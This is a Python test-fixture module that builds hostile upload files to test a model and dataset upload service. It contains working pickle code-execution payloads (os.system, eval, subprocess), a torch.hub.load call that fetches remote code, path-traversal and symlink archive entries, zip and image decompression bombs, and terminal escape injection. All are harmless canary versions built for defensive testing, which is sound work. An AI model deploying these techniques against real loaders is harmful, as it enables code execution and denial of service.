"""Files that nobody should upload, built when the tests run. Each says in a line what it tries.

A pickle that calls out runs `touch CANARY`: where that file appears, something was executed.
"""

import io
import json
import pickle
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

import numpy as np
from PIL import Image
from zips import Member, bomb, deflate, zip_of

Build = Callable[[str], bytes]
MODELS, DATASETS = "models", "datasets"
BOTH = (MODELS, DATASETS)


@dataclass(frozen=True)
class Hostile:
    name: str
    tries: str
    routes: tuple[str, ...]
    build: Build
    query: dict[str, str] = field(default_factory=dict)


CORPUS: list[Hostile] = []
#: The bare pickles of the corpus that really call out when Python's own unpickler reads them.
CALLING: dict[str, Build] = {}


def hostile(*routes: str, **query: str) -> Callable[[Build], Build]:
    def register(build: Build) -> Build:
        CORPUS.append(Hostile(build.__name__, build.__doc__ or "", routes, build, query))
        return build

    return register


def calling(build: Build) -> Build:
    """A pickle that calls out; the corpus has it inside a .pt."""
    CALLING[build.__name__] = build
    CORPUS.append(Hostile(build.__name__, build.__doc__ or "", (MODELS,), lambda canary: pt(build(canary))))
    return build


# Pickles by hand. Protocol 2, as torch.save writes it.

PROTO = b"\x80\x02"
ORDERED_DICT = b"ccollections\nOrderedDict\n)R"
HOOKS = b"\x89" + ORDERED_DICT


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def integer(value: int) -> bytes:
    raw = value.to_bytes(8, "little", signed=True)
    return b"\x8a\x08" + raw


def numbers(*values: int) -> bytes:
    return b"(" + b"".join(integer(value) for value in values) + b"t"


def touch(canary: str) -> bytes:
    return text(f"touch {canary}")


def storage(kind: str = "FloatStorage", key: str = "0", count: int = 4) -> bytes:
    return b"(" + text("storage") + f"ctorch\n{kind}\n".encode() + text(key) + text("cpu") + integer(count) + b"tQ"


def tensor(held: bytes, offset: int = 0, shape: tuple[int, ...] = (4,), strides: tuple[int, ...] = (1,)) -> bytes:
    told = held + integer(offset) + numbers(*shape) + numbers(*strides) + HOOKS
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + told + b"tR"


def state(value: bytes) -> bytes:
    return PROTO + b"}" + text("weight") + value + b"s."


def pt(data: bytes, method: int = zipfile.ZIP_STORED, **more: bytes) -> bytes:
    parts = {"data.pkl": data, "version": b"3\n", "byteorder": b"little", "data/0": bytes(16)} | more
    return zip_file({f"archive/{name}": content for name, content in parts.items()}, method)


def zip_file(parts: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()


# Pickles that call out.


@calling
def global_and_reduce(canary: str) -> bytes:
    """Calls os.system by its name, the classic."""
    return PROTO + b"cos\nsystem\n" + touch(canary) + b"\x85R."


@hostile(MODELS)
def call_inside_a_state_dict(canary: str) -> bytes:
    """Calls out in the middle of an honest state dict."""
    call = b"cposix\nsystem\n" + touch(canary) + b"\x85R"
    return pt(PROTO + b"}(" + text("weight") + tensor(storage()) + text("bias") + call + b"u.")


class Reduced:
    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
        self.told = function, arguments

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.told


@calling
def stack_global(canary: str) -> bytes:
    """Puts the name together on the stack, as protocol 4 does."""
    import os

    return pickle.dumps(Reduced(os.system, f"touch {canary}"), protocol=4)


@calling
def protocol_five(canary: str) -> bytes:
    """The newest protocol, with frames around it."""
    import os

    return pickle.dumps({"weight": Reduced(os.system, f"touch {canary}")}, protocol=5)


@calling
def protocol_zero(canary: str) -> bytes:
    """The oldest protocol, all text."""
    return f"cposix\nsystem\n(Vtouch {canary}\ntR.".encode()


@calling
def inst(canary: str) -> bytes:
    """INST: name and call in one instruction."""
    return b"(" + touch(canary) + b"iposix\nsystem\n."


@calling
def obj(canary: str) -> bytes:
    """OBJ: a call without REDUCE."""
    return b"(cposix\nsystem\n" + touch(canary) + b"o."


@calling
def subprocess_popen(canary: str) -> bytes:
    """A process without a shell, as a value of the dict."""
    listed = b"]" + text("touch") + b"a" + text(canary) + b"a"
    return PROTO + b"}" + text("weight") + b"csubprocess\nPopen\n" + listed + b"\x85Rs."


@calling
def newobj(canary: str) -> bytes:
    """NEWOBJ: a map over os.system, drained by a list; os.system itself is never REDUCEd."""
    lazy = b"cbuiltins\nmap\n(cos\nsystem\n]" + touch(canary) + b"at\x81"
    return PROTO + b"cbuiltins\nlist\n" + lazy + b"\x85R."


@calling
def newobj_ex(canary: str) -> bytes:
    """NEWOBJ_EX: with keyword arguments."""
    lazy = b"cbuiltins\nmap\n(cos\nsystem\n]" + touch(canary) + b"at}\x92"
    return b"\x80\x04cbuiltins\nlist\n" + lazy + b"\x85R."


@calling
def build_with_setstate(canary: str) -> bytes:
    """BUILD turns a harmless partial into os.system, then it is called."""
    partial = b"cfunctools\npartial\ncbuiltins\nprint\n\x85R"
    told = b"(cos\nsystem\n" + touch(canary) + b"\x85}Nt"
    return PROTO + partial + told + b"b" + b")R."


@calling
def another_function_in_a_module(canary: str) -> bytes:
    """Puts os.system in the place of json.loads, and calls that."""
    swap = (
        b"cbuiltins\nsetattr\n(cbuiltins\n__import__\n" + text("json") + b"\x85R" + text("loads") + b"cos\nsystem\ntR"
    )
    return PROTO + swap + b"0cjson\nloads\n" + touch(canary) + b"\x85R."


@calling
def getattr_walk(canary: str) -> bytes:
    """Walks to os.system by getattr and __import__ alone."""
    walked = b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n" + text("os") + b"\x85R" + text("system") + b"tR"
    return PROTO + walked + touch(canary) + b"\x85R."


@calling
def evaluated(canary: str) -> bytes:
    """Hands Python text to eval."""
    return PROTO + b"cbuiltins\neval\n" + text(f"__import__('os').system('touch {canary}')") + b"\x85R."


@calling
def dotted_name(canary: str) -> bytes:
    """A name with dots in it, which protocol 4 resolves attribute by attribute."""
    return b"\x80\x04" + text("os") + text("path.os.system") + b"\x93" + touch(canary) + b"\x85R."


@hostile(MODELS)
def two_pickles(canary: str) -> bytes:
    """An honest pickle with a second one behind it that calls out."""
    return pt(state(tensor(storage())) + global_and_reduce(canary))


@hostile(MODELS)
def known_name_with_another_attribute(canary: str) -> bytes:
    """Known names with dots and spaces around them."""
    return pt(PROTO + b"ctorch._utils\n_rebuild_tensor_v2.__globals__\n.")


@hostile(MODELS)
def torch_hub(canary: str) -> bytes:
    """Lets torch itself fetch and run code."""
    told = text("someone/something") + text("net")
    return pt(state(b"ctorch.hub\nload\n" + told + b"\x86R"))


@hostile(MODELS)
def copyreg_code(canary: str) -> bytes:
    """An extension code in place of a name."""
    return pt(PROTO + b"\x82\x01" + touch(canary) + b"\x85R.")


@hostile(MODELS)
def copyreg_code_four_bytes(canary: str) -> bytes:
    """The long form of the same."""
    return pt(PROTO + b"\x84\x01\x00\x00\x7f)R.")


@hostile(MODELS)
def legacy_pt(canary: str) -> bytes:
    """The .pt of torch before 1.6 is a bare pickle; this one calls out."""
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    return magic + b"\x80\x02M\xe9\x03." + global_and_reduce(canary)


@hostile(*BOTH)
def bare_pickle(canary: str) -> bytes:
    """A pickle with no zip around it, to both doors."""
    return stack_global(canary)


@hostile(*BOTH)
def text_pickle(canary: str) -> bytes:
    """A pickle that looks like text."""
    return protocol_zero(canary)


# Pickles that are only in the way.


@hostile(MODELS)
def persistent_id_that_is_a_number(canary: str) -> bytes:
    """A persistent id that is no description of a storage."""
    return pt(state(tensor(b"K\x05Q")))


@hostile(MODELS)
def persistent_id_of_a_stranger(canary: str) -> bytes:
    """A persistent id that speaks of a module."""
    return pt(state(tensor(b"(" + text("module") + text("os") + text("source") + text("x") + b"K\x01tQ")))


@hostile(MODELS)
def persistent_id_as_text(canary: str) -> bytes:
    """PERSID: the id is a line of text."""
    return pt(state(b"Pstorage\n"))


@hostile(MODELS)
def storage_key_that_climbs(canary: str) -> bytes:
    """A storage whose key is a path to somewhere else."""
    return pt(state(tensor(storage(key="../../../../etc/passwd"))))


@hostile(MODELS)
def memo_far_out(canary: str) -> bytes:
    """Keeps a value at place 4,294,967,295 of the memo."""
    return pt(PROTO + b"}r\xff\xff\xff\xff.")


@hostile(MODELS)
def memo_never_kept(canary: str) -> bytes:
    """Asks the memo for what was never put there."""
    return pt(PROTO + b"h\x07.")


@hostile(MODELS)
def deep_nesting(canary: str) -> bytes:
    """A tuple in a tuple, 190,000 deep."""
    return pt(PROTO + b")" + b"\x85" * 190_000 + b".")


@hostile(MODELS)
def billion_laughs(canary: str) -> bytes:
    """Sixty doublings of a tuple as the key of a dict, which must be hashed."""
    doubled = b")q\x00" + b"".join(b"h%ch%c\x86q%c" % (step, step, step + 1) for step in range(60))
    return pt(PROTO + b"}(" + doubled + b"K\x01u.")


@hostile(MODELS)
def list_that_holds_itself(canary: str) -> bytes:
    """A list that is its own item."""
    return pt(PROTO + b"}" + text("state_dict") + b"]q\x00h\x00as.")


@hostile(MODELS)
def endless_number(canary: str) -> bytes:
    """A whole number of a million bytes."""
    return pt(PROTO + b"\x8b" + struct.pack("<i", 10**6) + b"\x7f" * 10**6 + b".")


@hostile(MODELS)
def long_decimal(canary: str) -> bytes:
    """A whole number of a million decimal digits, which takes the square of that to read."""
    return pt(b"L" + b"9" * 10**6 + b"L\n.")


@hostile(MODELS)
def many_instructions(canary: str) -> bytes:
    """Four million instructions that do nothing."""
    return pt(PROTO + b"]" * 4_000_000 + b".")


@hostile(MODELS)
def huge_pickle(canary: str) -> bytes:
    """A pickle of 30 MB."""
    return pt(PROTO + text("x" * 30_000_000) + b".")


@hostile(MODELS)
def text_that_ends_after_the_file(canary: str) -> bytes:
    """A text that says it is 4 GB long."""
    return pt(PROTO + b"X\xff\xff\xff\xffshort.")


@hostile(MODELS)
def items_of_a_list(canary: str) -> bytes:
    """SETITEM on what is no dict, which once wrote into torch's memory."""
    return pt(PROTO + b"]" + text("weight") + b"K\x01s.")


@hostile(MODELS)
def items_of_a_storage(canary: str) -> bytes:
    """SETITEMS on a storage."""
    return pt(PROTO + storage() + b"(K\x00K\x01u.")


@hostile(MODELS)
def build_of_a_tensor(canary: str) -> bytes:
    """BUILD on a tensor, which would call its __setstate__."""
    return pt(state(tensor(storage()) + b"}b"))


@hostile(MODELS)
def whole_module(canary: str) -> bytes:
    """torch.save(model): the class is imported on load."""
    return pt(PROTO + b"c__main__\nAutoEncoder\n)\x81.")


@hostile(MODELS)
def stack_runs_dry(canary: str) -> bytes:
    """Takes more from the stack than there is."""
    return pt(PROTO + b"\x87R.")


@hostile(MODELS)
def mark_without_end(canary: str) -> bytes:
    """Marks and no tuple."""
    return pt(PROTO + b"(((((.")


@hostile(MODELS)
def storage_smaller_than_its_tensor(canary: str) -> bytes:
    """The pickle says a million floats, and four are stored."""
    return pt(state(tensor(storage(count=10**6), shape=(10**6,))))


@hostile(MODELS)
def tensor_past_its_storage(canary: str) -> bytes:
    """A view that ends behind its storage."""
    return pt(state(tensor(storage(), offset=1)))


@hostile(MODELS)
def negative_offset(canary: str) -> bytes:
    """A view that begins before its storage."""
    return pt(state(tensor(storage(), offset=-1)))


@hostile(MODELS)
def negative_strides(canary: str) -> bytes:
    """A view that walks backwards out of its storage."""
    return pt(state(tensor(storage(), shape=(4,), strides=(-1,))))


@hostile(MODELS)
def strides_that_wrap(canary: str) -> bytes:
    """Steps so long that their sum passes 64 bits."""
    return pt(state(tensor(storage(), shape=(2**59, 16), strides=(2**59, 1))))


@hostile(MODELS)
def endless_view(canary: str) -> bytes:
    """Steps of nothing: four floats seen as a tensor of 2**58."""
    return pt(state(tensor(storage(), shape=(2**29, 2**29), strides=(0, 0))))


@hostile(MODELS)
def shape_of_texts(canary: str) -> bytes:
    """A shape that is no list of counts."""
    told = storage() + b"K\x00" + text("4") + b"\x85" + numbers(1) + HOOKS
    return pt(state(b"ctorch._utils\n_rebuild_tensor_v2\n(" + told + b"tR"))


@hostile(MODELS)
def name_that_writes_to_the_terminal(canary: str) -> bytes:
    """A tensor whose name moves the reader's cursor."""
    return pt(PROTO + b"}" + text("\x1b[2J\x1b]0;owned\x07") + tensor(storage()) + b"s.")


@hostile(MODELS)
def big_endian(canary: str) -> bytes:
    """Says that its numbers are the other way round."""
    return pt(state(tensor(storage())), byteorder=b"big")


# Zips that are no state dict.


@hostile(MODELS)
def torchscript(canary: str) -> bytes:
    """Code in a .pt, compiled and run on load."""
    code = f"def forward(self, x):\n  import os; os.system('touch {canary}')\n".encode()
    return pt(state(tensor(storage())), **{"code/__torch__.py": code, "constants.pkl": PROTO + b")."})


@hostile(MODELS)
def torch_package(canary: str) -> bytes:
    """A package of Python sources and pickles that import them."""
    source = f"import os; os.system('touch {canary}')\n".encode()
    parts = {
        ".data/extern_modules": b"",
        ".data/version": b"1",
        "net.py": source,
        "model.pkl": PROTO + b"cnet\nNet\n)R.",
    }
    return zip_file({f"net/{name}": content for name, content in parts.items()})


@hostile(MODELS)
def exported_program(canary: str) -> bytes:
    """A .pt2, whose constants are unpickled without any guard."""
    parts = {"archive_format": b"pt2", "archive_version": b"0", "data/constants/c.pt": global_and_reduce(canary)}
    return zip_file({f"net/{name}": content for name, content in parts.items()})


@hostile(MODELS)
def exported_program_of_old(canary: str) -> bytes:
    """A .pt2 as it was before it had a folder."""
    parts = {"serialized_exported_program.json": b"{}", "serialized_state_dict.pt": pt(global_and_reduce(canary))}
    return zip_file({**parts, "version": b"7.0"})


@hostile(MODELS)
def two_pickles_in_two_folders(canary: str) -> bytes:
    """One honest data.pkl and, in another folder, one that calls out."""
    return zip_file({"a/data.pkl": state(tensor(storage())), "a/data/0": bytes(16), "b/data.pkl": inst(canary)})


@hostile(MODELS)
def pickle_twice(canary: str) -> bytes:
    """data.pkl stands in the zip twice; which one is read?"""
    honest, other = state(tensor(storage())), inst(canary)
    return zip_of(*(Member(data, name=b"a/data.pkl") for data in (honest, other)))


@hostile(MODELS)
def deflated_pickle(canary: str) -> bytes:
    """A pickle that inflates a thousandfold."""
    return pt(PROTO + text("\0" * 3_000_000) + b".", zipfile.ZIP_DEFLATED)


@hostile(MODELS)
def extra_file_beside_the_tensors(canary: str) -> bytes:
    """A state dict with a passenger."""
    return pt(state(tensor(storage())), **{"extra/run.sh": f"touch {canary}".encode()})


@hostile(*BOTH)
def npz_and_pt_in_one(canary: str) -> bytes:
    """A zip that is an npz to one reader and a .pt to the other."""
    array = io.BytesIO()
    np.save(array, np.zeros((1, 4, 4), "u1"))
    return zip_file({"archive/data.pkl": inst(canary), "x.npy": array.getvalue()})


# Arrays.


@hostile(DATASETS)
def objects_in_npz(canary: str) -> bytes:
    """An array of objects: a pickle inside .npy inside npz, and it calls out."""
    import os

    stream = io.BytesIO()
    np.savez(stream, x=np.array([Reduced(os.system, f"touch {canary}")], dtype=object))
    return stream.getvalue()


@hostile(DATASETS)
def objects_in_npy(canary: str) -> bytes:
    """The same without the npz."""
    import os

    stream = io.BytesIO()
    np.save(stream, np.array([Reduced(os.system, f"touch {canary}")], dtype=object), allow_pickle=True)
    return stream.getvalue()


def npy_header(told: str, length: int | None = None) -> bytes:
    raw = told.encode() + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw) if length is None else length) + raw


def array_of(shape: str, descr: str = "'|u1'") -> bytes:
    return npy_header(f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}")


@hostile(DATASETS)
def array_of_a_terabyte(canary: str) -> bytes:
    """A header that claims 10**12 images, with ten bytes behind it."""
    return zip_of(Member(array_of("(1000000000000, 32, 32)") + bytes(10)))


@hostile(DATASETS)
def array_header_with_a_call(canary: str) -> bytes:
    """A dtype that is a Python expression."""
    return zip_of(Member(array_of("(1, 2, 2)", f"__import__('os').system('touch {canary}')") + bytes(4)))


@hostile(DATASETS)
def array_header_of_brackets(canary: str) -> bytes:
    """A shape of five thousand brackets, to break the parser's stack."""
    return zip_of(Member(array_of("(" * 4000 + ")" * 4000) + bytes(4)))


@hostile(DATASETS)
def inflating_array(canary: str) -> bytes:
    """4 GB of zeros behind a header that says four bytes."""
    header = array_of("(1, 2, 2)")
    return bomb(header, gigabytes=4, file_size=len(header) + 4)


# safetensors.


def safetensors(header: bytes, body: bytes = b"", length: int | None = None) -> bytes:
    return struct.pack("<Q", len(header) if length is None else length) + header + body


def tensors(**entries: list[int]) -> bytes:
    told = {name: {"dtype": "F32", "shape": [2], "data_offsets": offsets} for name, offsets in entries.items()}
    return json.dumps(told).encode()


@hostile(*BOTH)
def safetensors_header_of_exabytes(canary: str) -> bytes:
    """A header length of 2**62."""
    return safetensors(tensors(a=[0, 8]), bytes(8), length=2**62)


@hostile(MODELS)
def safetensors_header_that_ends_late(canary: str) -> bytes:
    """A header longer than the file."""
    return safetensors(tensors(a=[0, 8]), bytes(8), length=7_000_000)


@hostile(MODELS)
def safetensors_that_overlap(canary: str) -> bytes:
    """Two tensors over the same bytes."""
    return safetensors(tensors(a=[0, 8], b=[4, 12]), bytes(12))


@hostile(MODELS)
def safetensors_outside(canary: str) -> bytes:
    """A tensor far behind the end of the file."""
    return safetensors(tensors(a=[0, 8], b=[2**59, 2**59 + 8]), bytes(16))


@hostile(MODELS)
def safetensors_of_brackets(canary: str) -> bytes:
    """JSON nested 100,000 deep."""
    return safetensors(b'{"a":' + b"[" * 100_000)


@hostile(MODELS)
def safetensors_that_eats_memory(canary: str) -> bytes:
    """A header of 7 MB that takes a quarter of a gigabyte once it is parsed."""
    return safetensors(b'{"a":[' + b"[[]]," * 1_500_000 + b"[]]}")


# Zips of images.


def image(format: str = "PNG", size: tuple[int, int] = (8, 8), mode: str = "RGB", **more: object) -> bytes:
    stream = io.BytesIO()
    Image.new(mode, size).save(stream, format, **more)
    return stream.getvalue()


def zip_of_one(data: bytes, name: str = "1.png", method: int = zipfile.ZIP_STORED) -> bytes:
    return zip_file({name: data}, method)


def named(name: bytes, **lies: int) -> bytes:
    return zip_of(Member(image(), name=b"0.png"), Member(image(), name=name, **lies))


@hostile(DATASETS)
def name_that_climbs(canary: str) -> bytes:
    """`..` in a name."""
    return named(b"cat/../../../../tmp/1.png")


@hostile(*BOTH)
def absolute_name(canary: str) -> bytes:
    """A name that begins at the root."""
    return named(b"/etc/cron.d/1.png")


@hostile(DATASETS)
def name_with_backslashes(canary: str) -> bytes:
    """`..` as Windows writes it."""
    return named(b"..\\..\\1.png")


@hostile(DATASETS)
def name_with_a_drive(canary: str) -> bytes:
    """A name on another drive."""
    return named(b"C:/1.png")


@hostile(DATASETS)
def name_with_a_zero_byte(canary: str) -> bytes:
    """A name that ends early for some."""
    return named(b"1.png\0.exe")


@hostile(DATASETS)
def name_that_writes_to_a_terminal(canary: str) -> bytes:
    """A folder, hence a label, that moves the reader's cursor."""
    return named(b"\x1b[2Jcat/1.png")


@hostile(DATASETS)
def name_of_sixty_thousand_letters(canary: str) -> bytes:
    """A name longer than any file system takes."""
    return named(b"x" * 60_000 + b".png")


@hostile(*BOTH)
def symbolic_link(canary: str) -> bytes:
    """A link to /etc/passwd with an image's name."""
    return zip_of(Member(b"/etc/passwd", name=b"1.png", mode=stat.S_IFLNK | 0o777))


@hostile(DATASETS)
def device_file(canary: str) -> bytes:
    """A device with an image's name."""
    return zip_of(Member(b"", name=b"1.png", mode=stat.S_IFCHR | 0o666))


@hostile(DATASETS)
def same_name_twice(canary: str) -> bytes:
    """Two files of one name."""
    return zip_of(Member(image(), name=b"1.png"), Member(image("JPEG"), name=b"1.png"))


@hostile(*BOTH)
def entries_that_share_bytes(canary: str) -> bytes:
    """A thousand entries that point to one, which inflates."""
    data = image("PNG", (1000, 1000))
    archive = zip_of(Member(data, name=b"%04d.png" % 0, method=8))
    body = archive[: archive.index(b"PK\x01\x02")]
    listed = Member(data, name=b"0000.png", method=8).central(0)
    directory = b"".join(listed.replace(b"0000.png", b"%04d.png" % number) for number in range(1000))
    return body + directory + end_of_zip(1000, len(directory), len(body))


@hostile(DATASETS)
def entry_inside_another(canary: str) -> bytes:
    """One entry's bytes are another entry, header and all: read twice, each time in full."""
    inner = Member(image(), name=b"b.png")
    outer = Member(inner.local(), name=b"a.png")
    body, directory = outer.local(), outer.central(0) + inner.central(30 + len(b"a.png"))
    return body + directory + end_of_zip(2, len(directory), len(body))


def end_of_zip(count: int, length: int, begin: int, comment: bytes = b"") -> bytes:
    return struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, length, begin, len(comment)) + comment


@hostile(DATASETS)
def encrypted(canary: str) -> bytes:
    """The flag of a password."""
    return named(b"1.png", flags=0x1)


@hostile(*BOTH)
def zip64_of_a_trillion_entries(canary: str) -> bytes:
    """A table of contents that counts 2**40 entries."""
    return with_zip64(count=2**40)


@hostile(DATASETS)
def zip64_that_contradicts(canary: str) -> bytes:
    """Two ends of one zip that count differently."""
    return with_zip64(count=2, plain_count=1)


@hostile(DATASETS)
def zip64_table_of_exabytes(canary: str) -> bytes:
    """A table of contents that says it is 2**62 bytes long."""
    return with_zip64(length=2**62)


def with_zip64(count: int = 1, length: int | None = None, plain_count: int = 0xFFFF) -> bytes:
    plain = zip_of_one(image())
    end = plain.rindex(b"PK\x05\x06")
    begin = plain.index(b"PK\x01\x02")
    told = (count, count, end - begin if length is None else length, begin)
    record = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, *told)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end, 1)
    return plain[:end] + record + locator + end_of_zip(plain_count, 0xFFFFFFFF, 0xFFFFFFFF)


@hostile(DATASETS)
def zip64_size_that_is_missing(canary: str) -> bytes:
    """A size that should be in an extra field, which is not there."""
    return zip_of(Member(image(), name=b"1.png", file_size=0xFFFFFFFF))


@hostile(DATASETS)
def zip64_size_of_exabytes(canary: str) -> bytes:
    """The extra field says 2**62 bytes."""
    extra = struct.pack("<HHQQ", 1, 16, 2**62, 2**62)
    return zip_of(Member(image(), name=b"1.png", file_size=2**32 - 1, compress_size=2**32 - 1, extra=extra))


@hostile(DATASETS)
def other_name_inside(canary: str) -> bytes:
    """The entry itself has another name than the table of contents."""
    return zip_of(Member(image(), name=b"1.png", local_name=b"../xx"))


@hostile(DATASETS)
def other_method_inside(canary: str) -> bytes:
    """Deflated in the table of contents, stored in the entry."""
    archive = bytearray(zip_of_one(image()))
    struct.pack_into("<H", archive, archive.index(b"PK\x01\x02") + 10, 8)
    return bytes(archive)


@hostile(DATASETS)
def other_size_inside(canary: str) -> bytes:
    """The entry says that it is longer than the table of contents does."""
    archive = bytearray(zip_of_one(image()))
    struct.pack_into("<II", archive, 18, 10**6, 10**6)
    return bytes(archive)


@hostile(*BOTH)
def program_before_the_zip(canary: str) -> bytes:
    """A shell script with a zip at its end, which unzip takes."""
    return f"#!/bin/sh\ntouch {canary}\nexit\n".encode() + zip_of_one(image())


@hostile(*BOTH)
def zip_before_the_zip(canary: str) -> bytes:
    """Two zips in one file: some read the first, some the last."""
    return pt(inst(canary)) + zip_of_one(image())


@hostile(DATASETS)
def something_after_the_zip(canary: str) -> bytes:
    """Bytes behind the end."""
    return zip_of_one(image()) + bytes(1000)


@hostile(DATASETS)
def end_in_the_comment(canary: str) -> bytes:
    """A comment that holds an end of its own."""
    plain = zip_of_one(image())
    end = plain.rindex(b"PK\x05\x06")
    begin = plain.index(b"PK\x01\x02")
    return plain[:end] + end_of_zip(1, end - begin, begin, comment=end_of_zip(0, 0, 0) + b"tail")


@hostile(DATASETS)
def wrong_checksum(canary: str) -> bytes:
    """An image that is not the one whose checksum is given."""
    return zip_of(Member(image(), name=b"1.png", crc=1))


@hostile(DATASETS)
def zip_in_a_zip(canary: str) -> bytes:
    """An archive inside, as in the bombs that nest six deep."""
    return zip_file({"1.png": image(), "more.zip": zip_of_one(image())})


@hostile(DATASETS)
def zip_in_a_zip_called_an_image(canary: str) -> bytes:
    """The same under an image's name."""
    return zip_of_one(zip_of_one(image()))


@hostile(DATASETS)
def script_beside_the_images(canary: str) -> bytes:
    """A file that is no image."""
    return zip_file({"1.png": image(), "run.sh": f"touch {canary}".encode()})


@hostile(*BOTH)
def two_hundred_thousand_entries(canary: str) -> bytes:
    """More entries than any dataset, each of nothing."""
    count, body, directory, offset = 200_001, [], [], 0
    fields = struct.pack("<HHHHHIII", 20, 0, 0, 0, 0, 0, 0, 0)
    for number in range(count):
        name = b"%d.png" % number
        body.append(b"PK\x03\x04" + fields + struct.pack("<HH", len(name), 0) + name)
        directory.append(
            b"PK\x01\x02\x14\x00" + fields + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, offset) + name
        )
        offset += len(body[-1])
    length = sum(map(len, directory))
    record = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, length, offset)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, offset + length, 1)
    return b"".join([*body, *directory, record, locator, end_of_zip(0xFFFF, length, offset)])


@hostile(DATASETS)
def inflating_image(canary: str) -> bytes:
    """4 GB of zeros behind a size of a thousand bytes."""
    return bomb(b"\x89PNG\r\n\x1a\n", gigabytes=4, file_size=1000).replace(b"x.npy", b"x.png")


@hostile(DATASETS)
def inflating_image_that_admits_it(canary: str) -> bytes:
    """The same, with the true size in the table of contents."""
    return bomb(b"\x89PNG\r\n\x1a\n", gigabytes=3, file_size=8 + 3 * 2**30).replace(b"x.npy", b"x.png")


# Images.


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*chunks: bytes, width: int = 8, height: int = 8, depth: int = 8, colours: int = 2) -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colours, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + chunk(b"IEND", b"")


def rows(width: int = 8, height: int = 8, item: int = 3) -> bytes:
    return chunk(b"IDAT", zlib.compress(bytes(height * (1 + width * item))))


def zeros(gigabytes: int) -> bytes:
    """A zlib stream of zeros, put together from one block."""
    packer = zlib.compressobj(9)
    start = packer.compress(bytes(1 << 24)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(1 << 24)) + packer.flush(zlib.Z_FULL_FLUSH)
    return start + again * (64 * gigabytes) + packer.flush()


@hostile(DATASETS)
def png_of_gigapixels(canary: str) -> bytes:
    """60,000 x 60,000 pixels in a hundred bytes."""
    return zip_of_one(png(rows(), width=60_000, height=60_000))


@hostile(DATASETS, input="8x8x3")
def png_of_gigapixels_to_be_resized(canary: str) -> bytes:
    """The same, where it would be made small."""
    return png_of_gigapixels(canary)


@hostile(DATASETS)
def png_of_the_largest_size(canary: str) -> bytes:
    """2**31 - 1 pixels along each side."""
    return zip_of_one(png(rows(), width=2**31 - 1, height=2**31 - 1))


@hostile(DATASETS)
def png_of_no_size(canary: str) -> bytes:
    """No pixels at all."""
    return zip_of_one(png(rows(), width=0, height=0))


@hostile(DATASETS)
def png_whose_text_inflates(canary: str) -> bytes:
    """A comment that inflates to a gigabyte."""
    return zip_of_one(png(chunk(b"zTXt", b"Comment\0\0" + zeros(1)), rows()))


@hostile(DATASETS)
def png_whose_profile_inflates(canary: str) -> bytes:
    """A colour profile that inflates to a gigabyte."""
    return zip_of_one(png(chunk(b"iCCP", b"sRGB\0\0" + zeros(1)), width=9, height=8) + b"cut off")


@hostile(DATASETS)
def png_whose_rows_go_on(canary: str) -> bytes:
    """Rows of a gigabyte, and one chunk that lies about its checksum."""
    return zip_of_one(png(chunk(b"IDAT", zeros(1))[:-4] + b"\0\0\0\0", width=512, height=512))


@hostile(DATASETS)
def png_without_rows(canary: str) -> bytes:
    """A header and an end."""
    return zip_of_one(png())


@hostile(DATASETS)
def png_with_a_chunk_of_gigabytes(canary: str) -> bytes:
    """A chunk length of 2**31 - 1."""
    return zip_of_one(png()[:33] + struct.pack(">I", 2**31 - 1) + b"IDAT" + bytes(100))


@hostile(DATASETS)
def png_of_sixteen_bits(canary: str) -> bytes:
    """Twice the bits that are kept."""
    return zip_of_one(png(rows(item=6), depth=16))


@hostile(DATASETS)
def animated_png(canary: str) -> bytes:
    """Many frames in one file."""
    frames = [Image.new("RGB", (8, 8), (number, 0, 0)) for number in range(1, 50)]
    return zip_of_one(image("PNG", save_all=True, append_images=frames))


@hostile(DATASETS)
def jpeg_of_gigapixels(canary: str) -> bytes:
    """65,500 x 65,500 pixels."""
    data = bytearray(image("JPEG"))
    struct.pack_into(">HH", data, data.index(b"\xff\xc0") + 5, 65_500, 65_500)
    return zip_of_one(bytes(data), "1.jpg")


@hostile(DATASETS)
def jpeg_larger_than_its_rows(canary: str) -> bytes:
    """6,000 x 6,000 pixels announced, eight rows there."""
    data = bytearray(image("JPEG"))
    struct.pack_into(">HH", data, data.index(b"\xff\xc0") + 5, 6_000, 6_000)
    return zip_of_one(bytes(data), "1.jpg")


@hostile(DATASETS)
def webp_of_a_quarter_gigapixel(canary: str) -> bytes:
    """The largest canvas that the format has, around a small picture."""
    side = struct.pack("<I", 16_382)[:3]
    canvas = b"VP8X" + struct.pack("<I", 10) + bytes(4) + side + side
    inner = image("WEBP", lossless=True)[12:]
    return zip_of_one(riff(canvas + inner), "1.webp")


def riff(data: bytes) -> bytes:
    return b"RIFF" + struct.pack("<I", 4 + len(data)) + b"WEBP" + data


@hostile(DATASETS)
def webp_that_lies_about_its_length(canary: str) -> bytes:
    """A chunk that says 4 GB."""
    data = bytearray(image("WEBP", lossless=True))
    struct.pack_into("<I", data, 16, 2**32 - 2)
    return zip_of_one(bytes(data), "1.webp")


@hostile(DATASETS)
def animated_webp(canary: str) -> bytes:
